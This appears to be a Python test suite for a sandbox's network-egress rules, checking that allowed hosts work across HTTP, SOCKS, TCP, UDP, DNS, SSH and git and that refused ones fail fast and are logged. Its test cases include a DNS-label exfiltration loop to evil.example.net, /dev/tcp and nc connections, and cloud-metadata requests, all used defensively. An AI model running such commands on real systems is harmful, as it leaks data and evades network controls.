"""What people use, unchanged, in a real box with network rules: each allowed and each refused case, with and
without proxy variables, over IPv4 and IPv6. A refusal is quick, says what it is where the protocol has words for
it, and is in the result and the log with program, rule and reason. usage: see boxed.py"""
import re

from boxed import *
from table import CLIENTS, present

PROXY = {k: "http://127.0.0.1:3128" for k in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY")}
HELLO = "hello from "
QUICK_MS = 50 * SLACK
# A machine that is busy with others makes all of it slower; a refusal that is no answer lets a client wait for as long
# as its own time-out is, and that is longer.
AT_ONCE = 2


def took_ms(result):
    """As the client measured it; else with its start-up."""
    found = re.search(r"after ([\d.]+) ms", result["err"])
    return float(found.group(1)) if found else result["seconds"] * 1000


def matrix(urls, clients, env=None):
    return [{"name": f"{c} {u}", "argv": CLIENTS[c][2](u), "env": env or {}} for c in clients for u in urls]


JAVA = ["https://www.example.com/", "http://v6only.example.com/x", "https://evil.example.net/", "http://other.example.com/",
        "https://other.example.com/", "http://93.184.216.10/"]


def fits(client, url):
    """What a client cannot do by itself is not asked of it."""
    if client == "Java" and url not in JAVA:  # takes a second to start
        return False
    return not (client == "curl -4" and "v6only" in url or client == "curl -6" and "v4only" in url)


here_clients = [c for c in CLIENTS if present(c)]
for c in CLIENTS:
    if c not in here_clients:
        skip(c, "not on this machine")

TRUST = {"REQUESTS_CA_BUNDLE": standin.BUNDLE, "SSL_CERT_FILE": standin.BUNDLE, "NODE_EXTRA_CA_CERTS": standin.BUNDLE}
ALLOWED = ["https://www.example.com/", "http://www.example.com/", "https://v4only.example.com/", "https://v6only.example.com/",
           "http://v6only.example.com/x", "http://deep.sub.example.com/"]
# Each with the entry of `blocked` that it must make.
REFUSED = {
    "https://evil.example.net/": {"kind": "dns", "name": "evil.example.net"},
    "http://sub.example.com/": {"kind": "dns", "name": "sub.example.com"},  # *.sub.example.com is not sub.example.com
    "http://xsub.example.com/": {"kind": "dns", "name": "xsub.example.com"},
    "http://other.example.com/": {"kind": "network", "host": "other.example.com", "port": 80},
    "https://other.example.com/": {"kind": "network", "host": "other.example.com", "port": 443},
    "http://www.example.com:8080/": {"kind": "network", "host": "www.example.com", "port": 8080},
    "https://www.example.com:8443/": {"kind": "network", "host": "www.example.com", "port": 8443},
    "http://93.184.216.10/": {"kind": "network", "address": "93.184.216.10", "port": 80},
    "http://169.254.169.254/": {"kind": "network", "address": "169.254.169.254", "port": 80},
    "http://[2606:2800:220:1::a]/": {"kind": "network", "address": "2606:2800:220:1::a", "port": 80},
}


def java_trust():
    """Java reads a store of its own: without interception it is the host's, which knows nothing of this world."""
    if "Java" not in here_clients:
        return []
    store = os.path.join(place, "cacerts")
    world.run(["keytool", "-importcert", "-noprompt", "-keystore", store, "-storepass", "changeit", "-file", world.ca, "-alias", "w"])
    return ["--ro", store]


def run_web(what, env, clients):
    flags = java_trust()
    more = {**env, **TRUST, **({"JAVA_TOOL_OPTIONS": f"-Djavax.net.ssl.trustStore={flags[1]} -Djavax.net.ssl.trustStorePassword=changeit"} if flags else {})}
    good = [x for x in matrix(ALLOWED, clients, more) if fits(*x["name"].rsplit(" ", 1))]
    bad = [x for x in matrix(REFUSED, clients, more) if fits(*x["name"].rsplit(" ", 1))]
    world.clear()
    r = inside(network(), good + bad, flags=flags)
    for x in good:
        client, url = x["name"].rsplit(" ", 1)
        got = r.cases.get(x["name"], {})
        check(f"{what}: {client}, {url}", got.get("status") == 0 and HELLO + url.split("/")[2] in got.get("out", ""), got)
    return r


def judge_refusals(what, r, clients, proxied=False):
    quickest = {}
    for client in clients:
        program = CLIENTS[client][0]
        for url, entry in REFUSED.items():
            got = r.cases.get(f"{client} {url}", {})
            if not fits(client, url) or client in ("curl -4", "curl -6") and ("[" in url or "93." in url or "169." in url):
                continue
            check(f"{what}: {client}, {url}: refused", got.get("status") not in (0, "timeout", None) and HELLO not in got.get("out", ""), got)
            quickest[client] = min(quickest.get(client, 9e9), took_ms(got)) if got else 9e9
            if url == "http://other.example.com/":
                for _ in range(5):
                    text = got.get("out", "") + got.get("err", "")
                    if "Pale" in text:
                        break
                    # Whoever has said nothing within 40 ms gets none: too little for Java on a machine that is busy.
                    got = inside(network(), matrix([url], [client], PROXY if proxied else {})).cases[f"{client} {url}"]
                check(f"{what}: {client}, a refusal in clear HTTP says that it is Pale's policy, which rule, and the remedy",
                      "Pale" in text and MIRROR in text and "other.example.com" in text, got)
    for client, ms in quickest.items():
        if client not in ("Java", "Node fetch"):  # they load themselves meanwhile
            for _ in range(5):  # the machine may be busy with others
                if ms < QUICK_MS:
                    break
                again = inside(network(), matrix(["http://other.example.com/"], [client], PROXY if proxied else {}))
                ms = min([ms, *map(took_ms, again.cases.values())])
            check(f"{what}: {client}: the quickest refusal is quick", ms < QUICK_MS, f"{ms:.1f} ms")
    programs = {CLIENTS[c][0] for c in clients}
    for url, entry in REFUSED.items():
        if proxied and entry["kind"] == "dns":
            entry = {"host": entry["name"]}  # the name is not looked up inside
        if proxied and "address" in entry:
            entry = {"port": 80, "host": entry["address"]} if r.find(host=entry["address"]) else entry
        found = r.find(**entry)
        check(f"{what}: {url} is in `blocked`", bool(found), r.blocked)
        if "other" in url:
            check(f"{what}: with the rule's reason", any(e.get("reason") == MIRROR for e in found), found)
        logged = r.find(blocked=False, **{k: v for k, v in entry.items() if k != "kind"})
        check(f"{what}: {url} is in the log", bool(logged), r.text[-2000:])
        seen = {os.path.basename(e.get("program", "")) for e in found}
        if not proxied or entry.get("host"):
            # What comes in quick succession and is alike is summed up, and the sum stands at the last one's program.
            check(f"{what}: {url}: programs are named", len(programs & seen) >= 3, f"{seen}\n{found}")


def nobody_was_reached(what, hosts=("evil.example.net", "other.example.com")):
    same(f"{what}: no refused request arrived anywhere", [e for e in world.seen("request") if e["host"] in hosts], [])
    same(f"{what}: no refused name was looked up", [e for e in world.seen("lookup") if "evil" in e["name"]], [])
    same(f"{what}: nor metadata reached", world.seen("metadata"), [])


@case
def transparent():
    r = run_web("transparent", {}, here_clients)
    judge_refusals("transparent", r, here_clients)
    nobody_was_reached("transparent")
    verified("transparent", r)


@case
def by_proxy_variables():
    if by_redirect:  # a program that knows the proxy connects to it as to any server in the box
        return
    clients = [c for c in here_clients if CLIENTS[c][1] and c != "curl -6"]  # the proxy is at 127.0.0.1
    r = run_web("by proxy", PROXY, clients)
    judge_refusals("by proxy", r, clients, proxied=True)
    nobody_was_reached("by proxy")


@case
def by_socks():
    urls = ["https://www.example.com/", "http://v6only.example.com/"]
    cases = [{"name": f"{kind} {u}", "argv": ["curl", "-sS", "-x", f"{kind}://127.0.0.1:3128", u]}
             for kind in ("socks5h", "socks4a") for u in urls + ["http://evil.example.net/", "http://other.example.com/"]]
    r = inside(network(), cases)
    for u in urls:
        check(f"SOCKS5 with remote names, {u}", HELLO in r.cases[f"socks5h {u}"]["out"], r.cases[f"socks5h {u}"])
    for u in ("http://evil.example.net/", "http://other.example.com/"):
        got = r.cases[f"socks5h {u}"]
        check(f"SOCKS5, {u}: refused", HELLO not in got["out"] and got["seconds"] < AT_ONCE, got)
    check("in `blocked`", r.find(host="evil.example.net") and r.find(host="other.example.com"), r.blocked)


@case
def raw_tcp():
    echo = "import socket,sys; s=socket.create_connection((sys.argv[1], int(sys.argv[2])), 5); s.sendall(b'hi\\n'); print(s.recv(9).decode())"
    cases = [
        {"name": "nc", "argv": ["nc", "-N", "echo.example.com", "7"], "input": "hi\n"},
        {"name": "nc -6", "argv": ["nc", "-6", "-N", "echo.example.com", "7"], "input": "hi\n"},
        {"name": "python", "argv": [PYTHON, "-c", echo, "echo.example.com", "7"]},
        {"name": "bash", "argv": ["bash", "-c", "exec 3<>/dev/tcp/echo.example.com/7; echo hi >&3; head -1 <&3"]},
        {"name": "socat", "argv": ["socat", "-", "TCP:echo.example.com:7"], "input": "hi\n"},
        {"name": "first", "argv": ["nc", "-N", "smtp.example.com", "2525"], "input": "hi\nquit\n"},
        {"name": "unreachable", "argv": [PYTHON, "-c", echo, "closed.example.com", "444"]},
        {"name": "other port", "argv": [PYTHON, "-c", echo, "echo.example.com", "9"]},
        {"name": "other name", "argv": [PYTHON, "-c", echo, "evil.example.net", "7"]},
        {"name": "an address", "argv": [PYTHON, "-c", echo, "93.184.216.27", "7"]},
        {"name": "not TLS on a TLS rule", "argv": [PYTHON, "-c", echo, "www.example.com", "443"]},
        {"name": "loopback", "argv": [PYTHON, "-c", "import socket,threading\nfor f,a in ((2,'127.0.0.1'),(10,'::1')):\n"
                                      " l=socket.socket(f); l.bind((a,0)); l.listen()\n c=socket.create_connection(l.getsockname()[:2])\n"
                                      " p,_=l.accept(); p.sendall(b'in'); assert c.recv(9)==b'in'\nprint('loopback works')"]},
        {"name": "own address", "argv": [PYTHON, "-c", "import socket\nl=socket.socket(); l.bind(('0.0.0.0',8000)); l.listen()\n"
                                         "c=socket.create_connection(('10.0.2.100',8000),2); p,_=l.accept(); p.sendall(b'in'); print(c.recv(9).decode())"]},
    ]
    r = inside(network(), cases)
    for name in ("nc", "nc -6", "python", "bash", "socat"):
        check(f"raw TCP to an allowed name: {name}", r.cases[name]["out"].strip() == "hi", r.cases[name])
    check("a server that speaks first", r.cases["first"]["out"].startswith("220 smtp.example.com ready"), r.cases["first"])
    check("a server that is not there: an ordinary error", "reset" in r.cases["unreachable"]["err"] or "refused" in r.cases["unreachable"]["err"], r.cases["unreachable"])
    for name in ("other port", "other name", "an address", "not TLS on a TLS rule"):
        got = r.cases[name]
        check(f"raw TCP: {name}: refused at once", got["status"] not in (0, "timeout") and got["seconds"] < AT_ONCE, got)
    check("an address: EACCES, as from a local firewall", "Permission denied" in r.cases["an address"]["err"], r.cases["an address"])
    same("a port that no rule has: counted exactly", r.count(host="echo.example.com", port=9), 1)
    same("an address: counted exactly", r.count(address="93.184.216.27", port=7), 1)
    same("loopback servers inside", r.cases["loopback"]["out"], "loopback works\n")
    same("and at the box's own address", r.cases["own address"]["out"], "in\n")
    check("what was allowed is in the log, with bytes", r.find(blocked=False, host="echo.example.com", port=7, bytes_in=3), r.text[-2000:])


@case
def names():
    dig = {"dig": [], "dig +tcp": ["+tcp"], "dig @8.8.8.8": ["@8.8.8.8"], "dig @v6": ["@2001:4860:4860::8888"], "dig +edns +tcp @8.8.8.8": ["+tcp", "@8.8.8.8"]}
    cases = [{"name": f"{n} {t} {h}", "argv": ["dig", "+tries=1", "+time=3", *a, h, t]} for n, a in dig.items()
             for h in ("www.example.com", "WWW.Example.COM.", "evil.example.net") for t in ("A", "AAAA")]
    cases += [{"name": t, "argv": ["dig", "+tries=1", "+time=3", "www.example.com", t]} for t in ("HTTPS", "TXT", "MX", "ANY")]
    cases += [{"name": "getent", "argv": ["getent", "ahosts", "www.example.com"]},
              {"name": "exfil", "argv": ["sh", "-c", "for i in 1 2 3; do getent hosts c2VjcmV0$i.evil.example.net; done"]}]
    world.clear()
    r = inside(network(), cases)
    for n in dig:
        for h in ("www.example.com", "WWW.Example.COM."):
            check(f"{n}: an allowed name, {h}", "198.18." in r.cases[f"{n} A {h}"]["out"], r.cases[f"{n} A {h}"])
            check(f"{n}: over IPv6, {h}", "fd5b:ad::" in r.cases[f"{n} AAAA {h}"]["out"], r.cases[f"{n} AAAA {h}"])
        got = r.cases[f"{n} A evil.example.net"]
        check(f"{n}: another name: NXDOMAIN at once", "NXDOMAIN" in got["out"] and got["seconds"] < AT_ONCE, got)
    for t in ("HTTPS", "TXT", "MX"):
        check(f"{t}: no data", "NOERROR" in r.cases[t]["out"] and "ANSWER: 0" in r.cases[t]["out"], r.cases[t])
    same("labels as data: each name counted", sum(r.count(kind="dns", name=f"c2VjcmV0{i}.evil.example.net".lower()) > 0 for i in (1, 2, 3)), 3)
    check("and none of it left", not [e for e in world.seen("lookup") if "evil" in e["name"].lower()], world.seen("lookup"))


@case
def datagrams():
    udp = ("import socket,sys,time\nf=socket.getaddrinfo(sys.argv[1],int(sys.argv[2]),socket.AF_INET6 if len(sys.argv)>3 else socket.AF_INET,2)[0]\n"
           "s=socket.socket(f[0],2); s.settimeout(2); t=time.monotonic()\ntry:\n s.sendto(b'hi',f[4]); print(s.recv(9).decode())\n"
           "except OSError as e: print(type(e).__name__, e, file=sys.stderr); print('after %.1f ms'%((time.monotonic()-t)*1000), file=sys.stderr); sys.exit(1)")
    cases = [{"name": "allowed", "argv": [PYTHON, "-c", udp, "udp.example.com", "7"]},
             {"name": "allowed, IPv6", "argv": [PYTHON, "-c", udp, "udp.example.com", "7", "6"]},
             {"name": "allowed, nc", "argv": ["nc", "-u", "-w1", "udp.example.com", "7"], "input": "hi"},
             {"name": "ntp", "argv": [PYTHON, "-c", udp, "udp.example.com", "123"]},
             {"name": "quic", "argv": [PYTHON, "-c", udp, "www.example.com", "443"]},
             {"name": "an address", "argv": [PYTHON, "-c", udp, "93.184.216.29", "7"]},
             {"name": "an address, IPv6", "argv": [PYTHON, "-c", udp, "2606:2800:220:1::1d", "7", "6"]},
             {"name": "ping", "argv": ["ping", "-c1", "-W1", "www.example.com"]},
             {"name": "raw", "argv": [PYTHON, "-c", "import socket; socket.socket(2,3,1)"]},
             {"name": "packet", "argv": [PYTHON, "-c", "import socket; socket.socket(17,3,3)"]}]
    world.clear()
    r = inside(network(), cases)
    for n in ("allowed", "allowed, IPv6", "allowed, nc"):
        check(f"UDP by a rule: {n}", r.cases[n]["out"].strip() == "hi", r.cases[n])
    for n in ("ntp", "quic", "an address", "an address, IPv6", "ping", "raw", "packet"):
        check(f"UDP and below, refused: {n}", r.cases[n]["status"] not in (0, None), r.cases[n])
    for n in ("ntp", "quic", "an address", "an address, IPv6"):
        check(f"UDP to {n}: at once", took_ms(r.cases[n]) < 1000, r.cases[n])
    same("only what is allowed arrived", {(e["address"], e["port"]) for e in world.seen("datagram")} - {(zone.NET4 + "29", 7), (zone.NET6 + "1d", 7)}, set())
    same("counted exactly", r.count(address="93.184.216.29", port=7, protocol="udp"), 1)
    check("QUIC and NTP are told", r.find(port=443, protocol="udp") and r.find(port=123, protocol="udp"), r.blocked)


@case
def ssh_and_git():
    ssh = f"ssh -F none -i {place}/key -o UserKnownHostsFile={place}/known_hosts -o BatchMode=yes"
    shutil.copy(os.path.join(world.place, "ssh", "known_hosts"), place)
    shutil.copy(world.ssh_key, place + "/key")
    os.chmod(place + "/known_hosts", 0o644)
    os.chmod(place + "/key", 0o600)
    if user:
        shutil.chown(place + "/key", user, user)
    at = f"{world.ssh_user}@git.example.com"
    git = {"GIT_SSH_COMMAND": ssh, "GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@y", "GIT_COMMITTER_NAME": "x", "GIT_COMMITTER_EMAIL": "x@y"}

    def push(name, url):
        return {"name": name, "env": git, "argv": ["sh", "-c", f"cd && git clone -q {url} '{name}' && cd '{name}' && cat README && "
                                                   "git commit -q --allow-empty -m x && git push -q && echo pushed"]}
    cases = [{"name": "ssh", "argv": ["sh", "-c", f"{ssh} {at} echo in"]},
             push("git over https", "https://git.example.com/project.git"),
             push("git over ssh", f"ssh://{at}{world.repositories}/project.git"),
             {"name": "git refused", "env": git, "argv": ["git", "clone", "-q", "https://other.example.com/project.git", "/tmp/no"]},
             {"name": "ssh refused", "argv": ["sh", "-c", f"{ssh} {world.ssh_user}@www.example.com echo in"]},
             {"name": "ssh denied", "argv": ["sh", "-c", f"{ssh} {world.ssh_user}@other.example.com echo in"]}]
    r = inside(network(), cases, flags=["--ro", place + "/key", "--ro", place + "/known_hosts"])
    same("ssh by a tcp rule", r.cases["ssh"]["out"], "in\n")
    for name in ("git over https", "git over ssh"):
        check(f"{name}: clone and push", r.cases[name]["out"].endswith("pushed\n"), r.cases[name])
    check("git to a denied host fails", r.cases["git refused"]["status"] == 128, r.cases["git refused"])
    for name in ("ssh refused", "ssh denied"):
        got = r.cases[name]
        check(f"{name}: at once, and ssh prints that it is Pale's policy", got["status"] == 255 and "Pale" in got["err"] and got["seconds"] < 2 * AT_ONCE, got)
    check("the reason is in ssh's words", MIRROR in r.cases["ssh denied"]["err"], r.cases["ssh denied"])


@case
def names_that_are_awkward():
    """The resolver's odd answers, CDNs, one family only, dead addresses."""
    hosts = ["many", "truncated", "slow", "cname", "cdn", "brokenv6", "brokenv4", "mixed", "from-hosts", "under_score", "xn--bcher-kva"]
    bad = ["broken", "cname-loop", "nothing-there"]
    allow = [{"host": f"{h}.example.com", "port": 80} for h in hosts + bad]
    curl = lambda h: ["curl", "-sS", "-m", "8", "-w", "%{http_code}", f"http://{h}.example.com/"]
    cases = [{"name": h, "argv": curl(h)} for h in hosts + bad] + [{"name": "cdn again", "argv": curl("cdn")}]
    r = inside(network(allow, None), cases)
    for h in hosts + ["cdn again"]:
        check(f"a name with an awkward answer: {h}", HELLO in r.cases[h]["out"], r.cases[h])
    for h in bad:
        got = r.cases[h]
        check(f"a name that leads nowhere: {h}: told, and that the policy is not the cause", "502" in got["out"] and "The policy allows" in got["out"], got)
    check("a dead IPv6 address costs a moment only", r.cases["brokenv6"]["seconds"] < 2 * AT_ONCE, r.cases["brokenv6"])
    addresses = {e.get("address") for e in r.find(blocked=False, host="cdn.example.com", port=80)}
    check("a CDN's new address is followed", {zone.NET4 + "76", zone.NET4 + "77"} <= addresses, addresses)


@case
def one_box_after_the_other():
    """Nothing is carried over, nothing is slow."""
    r = Run(network(), "curl", "-sS", "http://www.example.com/")
    check("a box with rules", HELLO in r.out, r)
    r = Run({"network": {"allow": [{"host": "v4only.example.com", "port": 80}]}}, "curl", "-sS", "http://www.example.com/")
    check("the next has its own rules only", HELLO not in r.out and r.status != 0, r)
    r = Run({}, "curl", "-sS", "http://www.example.com/")
    check("and one without has no network", HELLO not in r.out and r.status != 0, r)
    check("and no broker", not r.find(blocked=False, event="egress.ready"), r.text[-500:])
    r = Run(None, "curl", "-sS", "http://www.example.com/", flags=["--allow", "www.example.com:80"])
    check("--allow on the command line", HELLO in r.out, r)


nothing_left()
done()
